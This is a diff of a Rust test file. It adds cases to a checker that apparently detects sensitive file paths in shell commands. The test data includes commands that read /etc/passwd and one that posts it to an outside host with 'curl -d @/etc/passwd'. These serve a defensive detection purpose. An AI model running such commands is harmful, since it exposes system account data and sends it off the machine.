@@ -70,6 +70,8 @@ fn check(command: &str, expected: &[&str]) {
 #[case::no_looks("git push origin main", &[])]
 #[case::a_range("git diff main...HEAD", &["main...HEAD"])]
 #[case::a_url("curl https://example.org/../x", &[])]
+#[case::a_computed_url("curl http://localhost/$page", &[])]
+#[case::a_computed_file_url("curl file://localhost/etc/$x", &["! /etc/$"])]
 #[case::a_file_url("curl file:///etc/passwd", &["! /etc/passwd"])]
 #[case::a_package("npm i @types/node", &[])]
 #[case::data_of_a_file("curl -d @/etc/passwd https://x", &["! /etc/passwd"])]
